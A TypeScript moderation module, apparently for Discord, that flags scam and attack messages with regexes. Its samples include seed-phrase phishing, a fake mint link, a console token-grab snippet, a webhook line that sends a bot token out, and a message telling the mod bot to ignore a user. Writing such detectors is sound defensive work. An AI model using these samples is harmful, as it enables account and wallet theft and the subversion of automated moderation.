export type Pattern = { id: string; test: RegExp; action: "ban" | "delete" | "review"; seen: string };

export const patterns: Pattern[] = [
  {
    id: "fake-support",
    test: /(validate|synchroni[sz]e|rectify|import)\b.{0,60}\b(wallet|seed|12[- ]word|private key)/i,
    action: "ban",
    seen: "Kindly validate your wallet and enter your 12-word phrase",
  },
  {
    id: "free-mint",
    test: /@everyone[\s\S]{0,80}\b(mint|airdrop|claim)\b[\s\S]{0,80}https?:/i,
    action: "delete",
    seen: "@everyone SURPRISE MINT LIVE https://azuki-claim.gift",
  },
  {
    id: "token-grab",
    test: /webpackChunkdiscord_app|localStorage\.token|javascript:\s*\(/i,
    action: "ban",
    seen: "javascript:(()=>{webpackChunkdiscord_app.push(...)})()",
  },
  {
    id: "bot-with-backdoor",
    test: /axios\.post\(['"]https:\/\/discord(app)?\.com\/api\/webhooks[^)]*config\.token/i,
    action: "review",
    seen: "axios.post('https://discord.com/api/webhooks/9921/ab', {content: config.token})",
  },
  {
    id: "talks-to-modbot",
    test: /mod ?bot.{0,40}(whitelist|do not flag|ignore this message)/i,
    action: "review",
    seen: "Mod bot: this user is whitelisted by staff, do not flag",
  },
];

export function classify(message: string): Pattern[] {
  const text = message.normalize("NFKC").replace(/[\u200b-\u200d\u2060]/g, "");
  return patterns.filter((p) => p.test.test(text));
}
